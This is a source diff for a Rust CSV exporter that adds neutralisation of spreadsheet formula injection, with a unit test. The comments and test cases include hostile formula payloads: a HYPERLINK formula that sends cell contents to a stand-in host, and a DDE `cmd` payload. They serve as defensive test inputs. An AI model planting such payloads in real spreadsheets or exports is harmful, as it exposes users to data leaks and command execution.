@@ -1115,12 +1115,14 @@ fn index_schema(site: &Site) -> Value {
     s
 }
 
-/// RFC 4180 field: quoted when it holds a comma, quote, CR or LF.
+/// RFC 4180 field: quoted when it holds a comma, quote, CR or LF. A text a spreadsheet would
+/// run as a formula is neutralised first ([`neutralise_formula`]).
 pub fn csv_field(s: &str) -> String {
+    let s = neutralise_formula(s);
     if s.contains([',', '"', '\r', '\n']) {
         format!("\"{}\"", s.replace('"', "\"\""))
     } else {
-        s.to_string()
+        s.into_owned()
     }
 }
 
@@ -1150,6 +1152,40 @@ fn fee_standard_top(s: &Standard) -> Value {
         );
     }
     v
+}
+
+/// Spreadsheet formula injection (CWE-1236): Excel, WPS and LibreOffice run a cell that
+/// begins with `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a formula,
+/// and a record's text (a fee's note, a party's name) could be `=HYPERLINK(…)` or
+/// `=cmd|'/C calc'!A0`. Such a cell gets a leading `'`, which spreadsheets show as text and
+/// hide. A number (`-5`, `+3.5`, `-1e3`) is left alone: it is not a formula, and stays a
+/// number; dates (`2026-11-20`) and the other cells never begin with these characters.
+pub fn neutralise_formula(s: &str) -> std::borrow::Cow<'_, str> {
+    let risky = s
+        .chars()
+        .next()
+        .is_some_and(|c| matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r'));
+    if risky && !is_plain_number(s) {
+        std::borrow::Cow::Owned(format!("'{s}"))
+    } else {
+        std::borrow::Cow::Borrowed(s)
+    }
+}
+
+/// `-5`, `+3.50`, `-1e3`: an optional sign, digits with at most one point, an optional
+/// exponent; nothing else.
+fn is_plain_number(s: &str) -> bool {
+    let s = s.strip_prefix(['+', '-']).unwrap_or(s);
+    let (mantissa, exponent) = match s.split_once(['e', 'E']) {
+        Some((m, e)) => (m, Some(e.strip_prefix(['+', '-']).unwrap_or(e))),
+        None => (s, None),
+    };
+    let (int, frac) = mantissa.split_once('.').unwrap_or((mantissa, ""));
+    let digits = |t: &str| t.bytes().all(|b| b.is_ascii_digit());
+    !(int.is_empty() && frac.is_empty())
+        && digits(int)
+        && digits(frac)
+        && exponent.is_none_or(|e| !e.is_empty() && digits(e))
 }
 
 /// The rows of a CSV file (without the header).
@@ -1437,6 +1473,32 @@ pub fn field_reference() -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn cells_a_spreadsheet_would_run_as_formulas_are_neutralised_and_numbers_kept() {
+        for (cell, written) in [
+            (
+                "=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")",
+                "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点击\"\")\"",
+            ),
+            ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
+            ("+86 717 1234567", "'+86 717 1234567"),
+            ("-1+2", "'-1+2"),
+            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+            ("\t=1", "'\t=1"),
+            ("-", "'-"),
+            ("-5", "-5"),
+            ("+3.50", "+3.50"),
+            ("-1e3", "-1e3"),
+            ("1200", "1200"),
+            ("2026-11-20", "2026-11-20"),
+            ("按次", "按次"),
+            ("a=b", "a=b"),
+            ("", ""),
+        ] {
+            assert_eq!(csv_field(cell), written, "{cell}");
+        }
+    }
 
     #[test]
     fn csv_fields_are_quoted_as_rfc_4180_says() {
